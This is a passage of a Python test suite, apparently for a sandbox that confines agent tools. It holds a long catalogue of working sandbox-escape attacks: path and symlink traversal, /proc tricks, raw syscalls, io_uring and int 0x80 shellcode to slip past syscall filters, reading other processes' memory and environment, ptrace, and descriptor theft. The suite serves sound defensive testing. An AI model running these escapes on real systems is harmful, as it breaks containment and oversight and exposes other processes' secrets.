"""A hostile tool program: each tool is one way out that must be closed, or one way to be a bad guest.

Every attack takes one dictionary, `place`, that says what lies where, and returns {"got": ...}: true if it got what it
wanted. The same code runs unconfined (the control) with `python escapes.py ATTACK PLACE-AS-JSON`.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import random
import re
import select
import signal
import socket
import struct
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import TYPE_CHECKING, Any

from agentd_sandbox.sdk import ToolFailure, registered, tool

if TYPE_CHECKING:
    from collections.abc import Callable

    Place = dict[str, Any]
    Attack = Callable[[Place], dict[str, Any]]

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p

ARCHITECTURE = ("x86_64", "aarch64", "armv7l").index(os.uname().machine) if sys.maxsize > 1 << 32 else 2
CALLS = {
    "add_key": (248, 217, 309),
    "bpf": (321, 280, 386),
    "chroot": (161, 51, 61),
    "clone": (56, 220, 120),
    "clone3": (435, 435, 435),
    "execveat": (322, 281, 387),
    "fchmodat2": (452, 452, 452),
    "fsopen": (430, 430, 430),
    "get_robust_list": (274, 100, 339),
    "inotify_add_watch": (254, 27, 317),
    "inotify_init1": (294, 26, 360),
    "io_setup": (206, 0, 243),
    "io_uring_enter": (426, 426, 426),
    "io_uring_setup": (425, 425, 425),
    "ioprio_set": (251, 30, 314),
    "kcmp": (312, 272, 378),
    "keyctl": (250, 219, 311),
    "memfd_create": (319, 279, 385),
    "memfd_secret": (447, 447, -1),
    "modify_ldt": (154, -1, -1),
    "mount": (165, 40, 21),
    "move_pages": (279, 239, 344),
    "mq_open": (240, 180, 274),
    "mq_unlink": (241, 181, 275),
    "msgget": (68, 186, 303),
    "newfstatat": (262, 79, 327),
    "open_by_handle_at": (304, 265, 371),
    "open_tree": (428, 428, 428),
    "openat": (257, 56, 322),
    "openat2": (437, 437, 437),
    "perf_event_open": (298, 241, 364),
    "personality": (135, 92, 136),
    "pidfd_getfd": (438, 438, 438),
    "pidfd_open": (434, 434, 434),
    "pidfd_send_signal": (424, 424, 424),
    "pivot_root": (155, 41, 218),
    "process_madvise": (440, 440, 440),
    "process_vm_readv": (310, 270, 376),
    "process_vm_writev": (311, 271, 377),
    "ptrace": (101, 117, 26),
    "rt_sigqueueinfo": (129, 138, 178),
    "rt_tgsigqueueinfo": (297, 240, 363),
    "sched_setattr": (314, 274, 380),
    "seccomp": (317, 277, 383),
    "semget": (64, 190, 299),
    "setns": (308, 268, 375),
    "shmat": (30, 196, 305),
    "shmget": (29, 194, 307),
    "statx": (332, 291, 397),
    "sysinfo": (99, 179, 116),
    "syslog": (103, 116, 103),
    "tgkill": (234, 131, 268),
    "tkill": (200, 130, 238),
    "unshare": (272, 97, 337),
    "userfaultfd": (323, 282, 388),
    "vmsplice": (278, 75, 343),
}
POKE = signal.SIGURG  # ignored by whoever does not wait for it


def call(name: str, *arguments: Any) -> int:
    number = CALLS[name][ARCHITECTURE]
    if number < 0:
        raise ToolFailure(f"no {name} on this machine")
    result = int(libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments)))
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


def checked(result: int, what: str) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{what}: {os.strerror(ctypes.get_errno())}")
    return result


def attack(function: Attack) -> Attack:
    return tool(function.__name__)(function)


def any_of(attempts: list[Callable[[], Any]]) -> dict[str, Any]:
    """The first attempt that gets something; else the last error."""
    error: OSError = OSError(errno.ENODATA, "nothing")
    for attempt in attempts:
        try:
            if got := attempt():
                return {"got": got}
        except OSError as e:
            error = e
    raise error


def for_each_target(place: Place, attempt: Callable[[dict[str, int]], Any]) -> dict[str, Any]:
    """The daemon, another process of its user, and in the sandbox the zygote."""
    targets = list(place["targets"])
    if not place["control"]:
        targets.append({"pid": os.getppid(), "group": os.getpgid(os.getppid()), "address": 4096, "scratch": 4096, "fd": 1})
    return any_of([lambda target=target: attempt(target) for target in targets])


def read_all(descriptor: int) -> str:
    return os.read(descriptor, 8192).decode(errors="replace")


def output_of(arguments: list[str], program: str | None = None, **options: Any) -> str:
    """What a program prints, by fork and execve without any help of Python's own."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.dup2(writer, 1)
            os.close(reader)
            if "folder" in options:
                os.chdir(options["folder"])
            os.execve(program or arguments[0], arguments, options.get("environment", {"PATH": "/usr/bin:/bin"}))
        except OSError as e:
            os._exit(e.errno or 1)
        finally:
            os._exit(1)
    os.close(writer)
    text = b""
    while chunk := os.read(reader, 65536):
        text += chunk
    _, status = os.waitpid(child, 0)
    if not text and status:
        raise OSError(os.waitstatus_to_exitcode(status), f"{arguments[0]} ended with {os.waitstatus_to_exitcode(status)}")
    return text.decode(errors="replace")


# -- reading by name


def reads(name: str, where: str) -> None:
    """A tool that reads the file at a path made of `place`."""

    def read(place: Place) -> dict[str, Any]:
        return {"got": Path(where.format(**place)).read_text()}

    tool(name)(read)


READ_PATHS = {
    "read_by_absolute_path": "{outside}/file",
    "read_by_dots": "{inside}/../outside/file",
    "read_by_dots_through_a_folder": "{inside}/folder/../../outside/file",
    "read_by_dots_and_slashes": "//{inside}/.//folder/.././../outside//./file",
    "read_by_a_symlink": "{inside}/link",
    "read_by_an_absolute_symlink": "{inside}/absolute-link",
    "read_by_a_symlink_to_a_folder": "{inside}/folder-link/file",
    "read_by_dots_behind_a_symlink": "{inside}/folder-link/../outside/file",
    "read_by_a_chain_of_symlinks": "{inside}/chain/file",
    "read_by_proc_self_root": "/proc/self/root{outside}/file",
    "read_by_proc_thread_self": "/proc/thread-self/root{outside}/file",
    "read_by_proc_self_task": "/proc/self/task/../root{outside}/file",
    "read_by_proc_self_with_dots": "/proc/./self//root/./{outside}/file",
}
for _name, _where in READ_PATHS.items():
    reads(_name, _where)


@attack
def read_by_proc_self_cwd(place: Place) -> dict[str, Any]:
    return {"got": Path("/proc/self/cwd/" + os.path.relpath(place["outside"] + "/file", os.getcwd())).read_text()}


@attack
def read_by_proc_self_fd(place: Place) -> dict[str, Any]:
    folder = os.open(place["inside"], os.O_RDONLY)
    return {"got": Path(f"/proc/self/fd/{folder}/../outside/file").read_text()}


@attack
def read_by_dev_fd(place: Place) -> dict[str, Any]:
    folder = os.open(place["inside"], os.O_RDONLY)
    return {"got": Path(f"/dev/fd/{folder}/../outside/file").read_text()}


@attack
def read_by_a_folder_descriptor(place: Place) -> dict[str, Any]:
    folder = os.open(place["inside"], os.O_RDONLY)
    return {"got": read_all(os.open("../outside/file", os.O_RDONLY, dir_fd=folder))}


@attack
def read_by_a_descriptor_of_a_link(place: Place) -> dict[str, Any]:
    opath = os.open(place["inside"] + "/folder-link", os.O_PATH)
    return {"got": read_all(os.open("file", os.O_RDONLY, dir_fd=opath))}


@attack
def read_by_every_descriptor(place: Place) -> dict[str, Any]:
    """The control inherits a folder of the outside."""
    for folder in range(1024):
        for name in ("file", "../outside/file", "."):
            try:
                found = os.open(name, os.O_RDONLY, dir_fd=folder)
            except OSError:
                continue
            try:
                if text := read_all(found):
                    return {"got": text}
            except OSError:
                os.close(found)
    return {"got": ""}


@attack
def read_every_descriptor(place: Place) -> dict[str, Any]:
    """The control inherits a file of the outside."""
    for descriptor in range(3, 1024):
        try:
            if text := os.pread(descriptor, 4096, 0):
                return {"got": text.decode(errors="replace")}
        except OSError:
            continue
    return {"got": ""}


@attack
def read_after_chdir(place: Place) -> dict[str, Any]:
    os.chdir(place["inside"])
    return {"got": Path("../outside/file").read_text()}


@attack
def read_after_chdir_out(place: Place) -> dict[str, Any]:
    os.chdir(place["outside"])
    return {"got": Path("file").read_text()}


@attack
def read_after_fchdir(place: Place) -> dict[str, Any]:
    os.fchdir(os.open(place["inside"] + "/folder", os.O_RDONLY))
    return {"got": Path("../../outside/file").read_text()}


@attack
def read_after_fchdir_by_a_link(place: Place) -> dict[str, Any]:
    os.fchdir(os.open(place["inside"] + "/folder-link", os.O_PATH))
    return {"got": Path("file").read_text()}


@attack
def read_by_o_path(place: Place) -> dict[str, Any]:
    held = os.open(place["outside"] + "/file", os.O_PATH)
    return {"got": Path(f"/proc/self/fd/{held}").read_text()}


@attack
def read_by_openat2(place: Place) -> dict[str, Any]:
    how = struct.pack("=QQQ", os.O_RDONLY, 0, 0)
    return {"got": read_all(call("openat2", -100, place["outside"].encode() + b"/file", how, len(how)))}


@attack
def read_by_raw_openat(place: Place) -> dict[str, Any]:
    """With noise in the upper half of every int argument."""
    noise = 0xDEAD_BEEF << 32 if sys.maxsize > 1 << 32 else 0
    path = (place["outside"] + "/file").encode()
    return {"got": read_all(call("openat", noise | (-100 & 0xFFFF_FFFF), path, noise | os.O_RDONLY, 0))}


@attack
def read_by_open_tree(place: Place) -> dict[str, Any]:
    folder = call("open_tree", -100, place["outside"].encode(), 0)
    return {"got": read_all(os.open("file", os.O_RDONLY, dir_fd=folder))}


@attack
def read_by_handle(place: Place) -> dict[str, Any]:
    """The handle is given, as whoever knows the number of a file can make it up."""
    handle = bytes.fromhex(place["handle"])
    folder = os.open(place["inside"], os.O_RDONLY)
    return {"got": read_all(call("open_by_handle_at", folder, ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY))}


@attack
def read_by_the_x32_abi(place: Place) -> dict[str, Any]:
    if ARCHITECTURE:
        raise ToolFailure("no x32 on this machine")
    number = ctypes.c_long(0x4000_0000 | 2)
    return {"got": read_all(checked(libc.syscall(number, place["outside"].encode() + b"/file", 0, 0), "x32 open"))}


@attack
def read_by_int_0x80(place: Place) -> dict[str, Any]:
    """open(2) by the gate of 32-bit programs, whose numbers are others."""
    if ARCHITECTURE:
        raise ToolFailure("no int 0x80 on this machine")
    low = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22 | 0x40, -1, ctypes.c_long(0))  # private, anonymous, MAP_32BIT
    path = place["outside"].encode() + b"/file\0"
    code = bytes.fromhex("53b80500000089fb31c931d2cd805bc3")
    ctypes.memmove(low, path, len(path))
    ctypes.memmove(low + 2048, code, len(code))
    number = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(low + 2048)(low)
    if number < 0:
        raise OSError(-number, "int 0x80")
    return {"got": read_all(number)}


@attack
def read_by_io_uring(place: Place) -> dict[str, Any]:
    """openat by a ring: no system call that a filter sees."""
    parameters = bytearray(120)
    buffer = (ctypes.c_char * 120).from_buffer(parameters)
    ring = call("io_uring_setup", 4, buffer)
    entries = struct.unpack_from("=2I", parameters)
    (head, tail, mask, _, _, _, array) = struct.unpack_from("=7I", parameters, 40)
    (_, done_tail, _, _, _, done) = struct.unpack_from("=6I", parameters, 80)
    size = max(array + 4 * entries[0], done + 16 * entries[1])
    rings = mmap.mmap(ring, size, offset=0)
    requests = mmap.mmap(ring, 64 * entries[0], offset=0x1000_0000)
    path = ctypes.create_string_buffer((place["outside"] + "/file").encode())
    requests[:64] = struct.pack("=BBHiQQIIQ24x", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY, 7)
    rings[array : array + 4] = struct.pack("=I", 0)
    rings[tail : tail + 4] = struct.pack("=I", 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    assert struct.unpack_from("=I", rings, done_tail) == (1,)
    _, result, _ = struct.unpack_from("=QiI", rings, done)
    if result < 0:
        raise OSError(-result, f"io_uring openat, head {head} mask {mask}")
    return {"got": read_all(result)}


@attack
def map_a_ring(place: Place) -> dict[str, Any]:
    return {"got": call("io_uring_setup", 4, ctypes.create_string_buffer(120))}


# -- what is outside, without its content


@attack
def stat_outside(place: Place) -> dict[str, Any]:
    return any_of([lambda: os.stat(place["outside"] + "/file").st_size, lambda: os.lstat(place["inside"] + "/link/.").st_size])


@attack
def statx_outside(place: Place) -> dict[str, Any]:
    buffer = ctypes.create_string_buffer(256)
    return {"got": call("statx", -100, (place["outside"] + "/file").encode(), 0, 0x7FF, buffer) == 0}


@attack
def list_outside(place: Place) -> dict[str, Any]:
    return any_of([lambda: os.listdir(place["outside"]), lambda: os.listdir(place["inside"] + "/folder-link/")])


@attack
def read_a_link_outside(place: Place) -> dict[str, Any]:
    return {"got": os.readlink(place["outside"] + "/alias")}


@attack
def read_an_attribute_outside(place: Place) -> dict[str, Any]:
    return {"got": os.getxattr(place["outside"] + "/file", "user.note").decode()}


@attack
def watch_outside(place: Place) -> dict[str, Any]:
    watch = call("inotify_init1", 0)
    return {"got": call("inotify_add_watch", watch, place["outside"].encode(), 0xFFF)}


@attack
def tell_a_hidden_folder_from_a_missing_one(place: Place) -> dict[str, Any]:
    """Walk into it and out again: that works only if it is there."""

    def passes(name: str) -> bool:
        return os.access(f"{place['inside']}/../outside/{name}/../../inside/file", os.F_OK)

    return {"got": passes("folder") and not passes("missing")}


@attack
def tell_a_hidden_folder_by_the_device_of_proc(place: Place) -> dict[str, Any]:
    """As above, by an absolute path that begins elsewhere."""

    def passes(name: str) -> bool:
        return os.access(f"//proc/{name}/../..{place['inside']}/file", os.F_OK)

    return {"got": passes("sys/kernel/..") and not passes("sys/nothing/..")}


# -- changing what is outside, by name


def changes(name: str, act: Callable[[Place], Any]) -> None:
    """A tool whose success shows in the tree outside."""

    def change(place: Place) -> dict[str, Any]:
        act(place)
        return {"got": False}

    tool(name)(change)


def _append(path: str) -> None:
    os.write(os.open(path, os.O_WRONLY | os.O_APPEND), b"owned")


def _map(path: str) -> None:
    with mmap.mmap(os.open(path, os.O_RDWR), 4) as memory:
        memory[:4] = b"mine"


def _allocate(path: str) -> None:
    os.posix_fallocate(os.open(path, os.O_RDWR), 0, 99_999)


_CHANGES: dict[str, Callable[[str], Any]] = {
    "write": lambda path: Path(path).write_text("owned"),
    "append": _append,
    "map": _map,
    "allocate": _allocate,
    "truncate": lambda path: os.truncate(path, 1),
    "truncate_by_open": lambda path: os.open(path, os.O_RDONLY | os.O_TRUNC),
    "chmod": lambda path: os.chmod(path, 0o777),
    "utime": lambda path: os.utime(path, (1, 1)),
    "set_attribute": lambda path: os.setxattr(path, "user.owned", b"1"),
    "fchmod": lambda path: os.fchmod(os.open(path, os.O_RDONLY), 0o777),
    "futime": lambda path: os.utime(os.open(path, os.O_RDONLY), (1, 1)),
    "set_attribute_by_descriptor": lambda path: os.setxattr(os.open(path, os.O_RDONLY), "user.owned", b"1"),
}
for _name, _act in _CHANGES.items():
    changes(f"{_name}_outside", lambda place, act=_act: act(place["outside"] + "/file"))
    changes(f"{_name}_by_a_hard_link", lambda place, act=_act: act(place["inside"] + "/hard"))
    changes(f"{_name}_by_a_symlink", lambda place, act=_act: act(place["inside"] + "/link"))


def _enter(place: Place, name: str = "inside") -> int:
    return os.open(place[name], os.O_RDONLY)


def link_followed(old: str, new: str) -> None:
    """linkat(2) with AT_SYMLINK_FOLLOW, which Python's own function leaves out."""
    checked(libc.linkat(-100, old.encode(), -100, new.encode(), 0x400), "linkat")


def _tmpfile(place: Place) -> None:
    held = os.open(place["outside"], os.O_TMPFILE | os.O_RDWR)
    os.write(held, b"owned")
    link_followed(f"/proc/self/fd/{held}", place["outside"] + "/new")


def _dangling(place: Place) -> None:
    os.write(os.open(place["inside"] + "/dangling", os.O_WRONLY | os.O_CREAT, 0o644), b"owned")


def _bind(place: Place) -> None:
    socket.socket(socket.AF_UNIX).bind(place["outside"] + "/new")


def _make_and_follow(text: str, place: Place, name: str = "made") -> None:
    made = f"{place['inside']}/{name}"
    os.symlink(text.format(**place), made)
    os.write(os.open(made, os.O_WRONLY | os.O_CREAT, 0o644), b"owned")


def _make_and_enter(place: Place) -> None:
    os.symlink(place["outside"], place["inside"] + "/made")
    os.mkdir(place["inside"] + "/made/new")


def _renamed_hard_link(place: Place) -> None:
    os.rename(place["inside"] + "/hard", place["inside"] + "/folder/renamed")
    _append(place["inside"] + "/folder/renamed")


def _copied_over(place: Place) -> None:
    source, target = os.open(place["inside"] + "/file", os.O_RDONLY), os.open(place["inside"] + "/hard", os.O_WRONLY)
    os.sendfile(target, source, 0, 4)


def _two_folders_by_descriptor(place: Place) -> None:
    os.rename("file", "../outside/new", src_dir_fd=_enter(place), dst_dir_fd=_enter(place))


for _name, _change in {
    "create_outside": lambda place: Path(place["outside"] + "/new").touch(),
    "create_by_dots": lambda place: Path(place["inside"] + "/../outside/new").touch(),
    "create_by_a_dangling_link": _dangling,
    "create_by_a_link_to_a_folder": lambda place: Path(place["inside"] + "/folder-link/new").touch(),
    "create_by_a_folder_descriptor": lambda place: os.open("../outside/new", os.O_CREAT | os.O_RDWR, dir_fd=_enter(place)),
    "tmpfile_outside": _tmpfile,
    "mkdir_outside": lambda place: os.mkdir(place["outside"] + "/new"),
    "mkdir_by_a_link": lambda place: os.mkdir(place["inside"] + "/folder-link/new"),
    "rmdir_outside": lambda place: os.rmdir(place["outside"] + "/empty"),
    "rmdir_by_a_link": lambda place: os.rmdir(place["inside"] + "/folder-link/empty"),
    "unlink_outside": lambda place: os.unlink(place["outside"] + "/file"),
    "unlink_by_a_link": lambda place: os.unlink(place["inside"] + "/folder-link/file"),
    "unlink_by_dots": lambda place: os.unlink("folder/../../outside/file", dir_fd=_enter(place)),
    "rename_outside": lambda place: os.rename(place["outside"] + "/file", place["outside"] + "/renamed"),
    "rename_into_the_scope": lambda place: os.rename(place["outside"] + "/file", place["inside"] + "/taken"),
    "rename_a_folder_into_the_scope": lambda place: os.rename(place["outside"] + "/folder", place["inside"] + "/taken"),
    "rename_a_folder_out": lambda place: os.rename(place["inside"] + "/folder", place["outside"] + "/taken"),
    "rename_out_by_a_link": lambda place: os.rename(place["inside"] + "/file", place["inside"] + "/folder-link/file"),
    "rename_out_by_descriptors": _two_folders_by_descriptor,
    "rename_the_parent_away": lambda place: os.rename(place["outside"], place["outside"] + "-moved"),
    "link_out": lambda place: os.link(place["inside"] + "/file", place["outside"] + "/new"),
    "link_into_the_scope": lambda place: os.link(place["outside"] + "/file", place["inside"] + "/stolen"),
    "link_a_symlinks_target": lambda place: link_followed(place["inside"] + "/link", place["inside"] + "/stolen"),
    "symlink_outside": lambda place: os.symlink("file", place["outside"] + "/new"),
    "mkfifo_outside": lambda place: os.mkfifo(place["outside"] + "/new"),
    "bind_outside": _bind,
    "chown_outside": lambda place: os.chown(place["outside"] + "/file", 1, 1),
    "chown_by_a_hard_link": lambda place: os.chown(place["inside"] + "/hard", 1, 1),
    "follow_a_made_absolute_link": lambda place: _make_and_follow("{outside}/file", place),
    "follow_a_made_relative_link": lambda place: _make_and_follow("../outside/file", place),
    "follow_a_made_dangling_link": lambda place: _make_and_follow("../outside/new", place),
    "follow_a_made_link_of_links": lambda place: _make_and_follow("folder-link/new", place),
    "enter_a_made_link": _make_and_enter,
    "append_by_a_renamed_hard_link": _renamed_hard_link,
    "sendfile_to_a_hard_link": _copied_over,
}.items():
    changes(_name, _change)


@attack
def chmod_outside_by_fchmodat2(place: Place) -> dict[str, Any]:
    call("fchmodat2", -100, (place["outside"] + "/file").encode(), 0o777, 0)
    return {"got": False}


@attack
def read_a_stolen_file(place: Place) -> dict[str, Any]:
    os.link(place["outside"] + "/file", place["inside"] + "/stolen")
    return {"got": Path(place["inside"] + "/stolen").read_text()}


@attack
def leave_a_link_that_leads_out(place: Place) -> dict[str, Any]:
    """Made where it leads inside, then carried up: whoever follows it later without a broker is led out."""
    os.makedirs(place["inside"] + "/one/outside")
    Path(place["inside"] + "/one/outside/file").touch()
    os.mkdir(place["inside"] + "/one/two")
    os.symlink("../outside/file", place["inside"] + "/one/two/carried")
    os.rename(place["inside"] + "/one/two/carried", place["inside"] + "/carried")
    return {"got": False}


@attack
def leave_a_folder_with_a_link_that_leads_out(place: Place) -> dict[str, Any]:
    """As above, by moving the folder it is in."""
    os.makedirs(place["inside"] + "/one/outside")
    Path(place["inside"] + "/one/outside/file").touch()
    os.makedirs(place["inside"] + "/one/two/three")
    os.symlink("../../outside/file", place["inside"] + "/one/two/three/carried")
    os.rename(place["inside"] + "/one/two/three", place["inside"] + "/three")
    return {"got": False}


@attack
def leave_a_link_that_will_lead_out(place: Place) -> dict[str, Any]:
    """It goes through another link, which is then put somewhere else."""
    os.makedirs(place["inside"] + "/one/two")
    os.mkdir(place["inside"] + "/outside")
    Path(place["inside"] + "/outside/file").touch()
    os.symlink("one/two", place["inside"] + "/way")
    os.symlink("way/../../outside/file", place["inside"] + "/carried")
    os.unlink(place["inside"] + "/way")
    os.symlink("folder", place["inside"] + "/way")
    return {"got": False}


# -- what must not lie in the scope afterwards: set-id bits, special files (the test looks)


def _set_uid_by_open(place: Place) -> None:
    os.umask(0)
    os.close(os.open(place["inside"] + "/made", os.O_CREAT | os.O_WRONLY, 0o7777))


def _set_uid_by_mkdir(place: Place) -> None:
    os.umask(0)
    os.mkdir(place["inside"] + "/made", 0o7777)


def _set_uid_by_rename(place: Place) -> None:
    os.chmod(place["inside"] + "/file", 0o6755)
    os.rename(place["inside"] + "/file", place["inside"] + "/made")


for _name, _change in {
    "set_uid_by_chmod": lambda place: os.chmod(place["inside"] + "/file", 0o4755),
    "set_gid_by_chmod": lambda place: os.chmod(place["inside"] + "/folder", 0o2755),
    "set_uid_by_fchmod": lambda place: os.fchmod(os.open(place["inside"] + "/file", os.O_RDWR), 0o6755),
    "set_uid_by_fchmodat2": lambda place: call("fchmodat2", -100, (place["inside"] + "/file").encode(), 0o4755, 0),
    "set_uid_by_open": _set_uid_by_open,
    "sticky_by_mkdir": _set_uid_by_mkdir,
    "set_uid_by_rename": _set_uid_by_rename,
    "make_a_fifo": lambda place: os.mkfifo(place["inside"] + "/made"),
    "make_a_socket": lambda place: os.mknod(place["inside"] + "/made", 0o140644),
    "make_a_device": lambda place: os.mknod(place["inside"] + "/made", 0o20666, os.makedev(1, 3)),
    "bind_in_the_scope": lambda place: socket.socket(socket.AF_UNIX).bind(place["inside"] + "/made"),
}.items():
    changes(_name, _change)


@attack
def change_the_daemons_own_files(place: Place) -> dict[str, Any]:
    """Opens for writing, and creates next to them; what it creates it removes again."""

    def opened(path: str) -> bool:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return True

    def created(path: str) -> bool:
        os.close(os.open(path + "-agentd-test", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        os.unlink(path + "-agentd-test")
        return True

    return any_of([lambda do=do, path=path: do(path) for path in place["daemon_files"] for do in (opened, created)])


# -- other processes


def proc(name: str, below: Callable[[dict[str, int], Place], str]) -> None:
    def read(place: Place) -> dict[str, Any]:
        return for_each_target(place, lambda target: Path(f"/proc/{target['pid']}/" + below(target, place)).read_text())

    tool(name)(read)


proc("read_environ_of_a_process", lambda target, place: "environ")
proc("read_root_of_a_process", lambda target, place: "root" + place["outside"] + "/file")
proc("read_cwd_of_a_process", lambda target, place: "cwd/" + place["victim_file"])
proc("read_fd_of_a_process", lambda target, place: f"fd/{target['fd']}")
proc("read_task_of_a_process", lambda target, place: f"task/{target['pid']}/environ")
proc("read_maps_of_a_process", lambda target, place: "maps")
proc("read_status_of_a_process", lambda target, place: "status")


@attack
def read_map_files_of_a_process(place: Place) -> dict[str, Any]:
    return for_each_target(place, lambda target: Path(f"/proc/{target['pid']}/map_files/{place['mapping']}").read_text())


@attack
def read_mem_of_a_process(place: Place) -> dict[str, Any]:
    def peek(target: dict[str, int]) -> str:
        return os.pread(os.open(f"/proc/{target['pid']}/mem", os.O_RDONLY), 64, target["address"]).decode(errors="replace")

    return for_each_target(place, peek)


@attack
def write_mem_of_itself(place: Place) -> dict[str, Any]:
    """Even what is mapped without a right to write."""
    memory = os.open("/proc/self/mem", os.O_RDWR)
    buffer = ctypes.create_string_buffer(b"before")
    os.pwrite(memory, b"after!", ctypes.addressof(buffer))
    return {"got": buffer.value == b"after!"}


@attack
def read_own_environ(place: Place) -> dict[str, Any]:
    """Also what the process has been started with."""
    return {"got": re.findall("canar[y]-[0-9a-f]{16}", str(dict(os.environ)) + Path("/proc/self/environ").read_text())}


@attack
def vm_read(place: Place) -> dict[str, Any]:
    buffer = ctypes.create_string_buffer(64)

    def peek(target: dict[str, int]) -> str:
        ours, theirs = struct.pack("@PN", ctypes.addressof(buffer), 64), struct.pack("@PN", target["address"], 64)
        call("process_vm_readv", target["pid"], ours, 1, theirs, 1, 0)
        return buffer.value.decode(errors="replace")

    return for_each_target(place, peek)


@attack
def vm_write(place: Place) -> dict[str, Any]:
    buffer = ctypes.create_string_buffer(b"\0" * 8)

    def poke(target: dict[str, int]) -> int:
        ours, theirs = struct.pack("@PN", ctypes.addressof(buffer), 1), struct.pack("@PN", target["scratch"], 1)
        return call("process_vm_writev", target["pid"], ours, 1, theirs, 1, 0)

    return for_each_target(place, poke)


@attack
def take_a_descriptor(place: Place) -> dict[str, Any]:
    def take(target: dict[str, int]) -> str:
        taken = call("pidfd_getfd", call("pidfd_open", target["pid"], 0), target["fd"], 0)
        return os.pread(taken, 4096, 0).decode()

    return for_each_target(place, take)


@attack
def take_a_descriptor_without_a_pidfd(place: Place) -> dict[str, Any]:
    """By any number that might be a pidfd; the control inherits one of the other process."""
    for pidfd in range(3, 64):
        try:
            taken = call("pidfd_getfd", pidfd, place["targets"][-1]["fd"], 0)
        except OSError:
            continue
        return {"got": os.pread(taken, 4096, 0).decode()}
    return {"got": ""}


def on_process(name: str, act: Callable[[dict[str, int]], Any]) -> None:
    tool(name)(lambda place: for_each_target(place, act))


def _seize(target: dict[str, int]) -> bool:
    return call("ptrace", 0x4206, target["pid"], 0, 0) == 0


def _get_limits(target: dict[str, int]) -> bool:
    return checked(libc.prlimit(target["pid"], 7, None, ctypes.create_string_buffer(16)), "prlimit") == 0


def _set_limits(target: dict[str, int]) -> bool:
    buffer = ctypes.create_string_buffer(16)
    checked(libc.prlimit(target["pid"], 4, None, buffer), "prlimit")
    return checked(libc.prlimit(target["pid"], 4, buffer, None), "prlimit") == 0


def _set_affinity(target: dict[str, int]) -> bool:
    os.sched_setaffinity(target["pid"], os.sched_getaffinity(target["pid"]))
    return True


def _set_priority(target: dict[str, int]) -> bool:
    os.setpriority(os.PRIO_PROCESS, target["pid"], os.getpriority(os.PRIO_PROCESS, target["pid"]))
    return True


def _set_scheduler(target: dict[str, int]) -> bool:
    os.sched_setscheduler(target["pid"], os.sched_getscheduler(target["pid"]), os.sched_param(0))
    return True


def _set_io_priority(target: dict[str, int]) -> bool:
    return call("ioprio_set", 1, target["pid"], 4 | 2 << 13) == 0


def _robust_list(target: dict[str, int]) -> bool:
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    call("get_robust_list", target["pid"], ctypes.byref(head), ctypes.byref(size))
    return bool(head.value)


def _pages(target: dict[str, int]) -> bool:
    pages, status = (ctypes.c_void_p * 1)(target["address"] & ~4095), (ctypes.c_int * 1)()
    return call("move_pages", target["pid"], 1, pages, None, status, 0) == 0


def _advise(target: dict[str, int]) -> bool:
    vector = struct.pack("@PN", target["address"] & ~4095, 4096)
    return call("process_madvise", call("pidfd_open", target["pid"], 0), vector, 1, 20, 0) > 0  # MADV_COLD


for _name, _deed in {
    "trace_a_process": _seize,
    "read_limits_of_a_process": _get_limits,
    "set_limits_of_a_process": _set_limits,
    "set_affinity_of_a_process": _set_affinity,
    "set_priority_of_a_process": _set_priority,
    "set_scheduler_of_a_process": _set_scheduler,
    "set_io_priority_of_a_process": _set_io_priority,
    "open_a_process": lambda target: call("pidfd_open", target["pid"], 0),
    "compare_with_a_process": lambda target: call("kcmp", os.getpid(), target["pid"], 1, 0, 0) >= 0,
    "learn_an_address_of_a_process": _robust_list,
    "learn_pages_of_a_process": _pages,
    "advise_about_memory_of_a_process": _advise,
}.items():
    on_process(_name, _deed)


# -- signals: whether one came, the test asks those who might get it


def pokes(name: str, act: Callable[[dict[str, int]], Any]) -> None:
    """Sends to all targets, so that each is tried."""

    def poke(place: Place) -> dict[str, Any]:
        sent = []

        def one(target: dict[str, int]) -> None:
            act(target)
            sent.append(target["pid"])

        try:
            for_each_target(place, one)
        except OSError as e:
            if not sent:
                raise ToolFailure(str(e)) from e
        return {"got": sent}

    tool(name)(poke)


def _queue(target: dict[str, int], *, thread: bool) -> None:
    info = ctypes.create_string_buffer(struct.pack("=iii", POKE, 0, -1), 128)  # SI_QUEUE
    if thread:
        call("rt_tgsigqueueinfo", target["pid"], target["pid"], POKE, info)
    else:
        call("rt_sigqueueinfo", target["pid"], POKE, info)


for _name, _deed in {
    "kill_a_process": lambda target: os.kill(target["pid"], POKE),
    "kill_a_group": lambda target: os.killpg(target["group"], POKE),
    "kill_a_group_by_number": lambda target: os.kill(-target["group"], POKE),
    "tkill": lambda target: call("tkill", target["pid"], POKE),
    "tgkill": lambda target: call("tgkill", target["pid"], target["pid"], POKE),
    "queue_a_signal": lambda target: _queue(target, thread=False),
    "queue_a_signal_to_a_thread": lambda target: _queue(target, thread=True),
    "signal_by_pidfd": lambda target: call("pidfd_send_signal", call("pidfd_open", target["pid"], 0), POKE, None, 0),
}.items():
    pokes(_name, _deed)


@attack
def kill_everybody(place: Place) -> dict[str, Any]:
    """With signal 0: the control must do no harm."""
    os.kill(-1, 0)
    return {"got": True}


@attack
def signal_by_ownership(place: Place) -> dict[str, Any]:
    """Input and output send a signal to whoever is set as the owner of a descriptor."""

    def own(target: dict[str, int]) -> None:
        ours, theirs = socket.socketpair()
        owner = struct.pack("=i", target["pid"])
        for act in (
            lambda: fcntl.fcntl(ours, 8, target["pid"]),  # F_SETOWN
            lambda: fcntl.fcntl(ours, 15, struct.pack("=ii", 1, target["pid"])),  # F_SETOWN_EX
            lambda: fcntl.ioctl(ours, 0x8901, owner),  # FIOSETOWN
            lambda: fcntl.fcntl(ours, 10, POKE),  # F_SETSIG
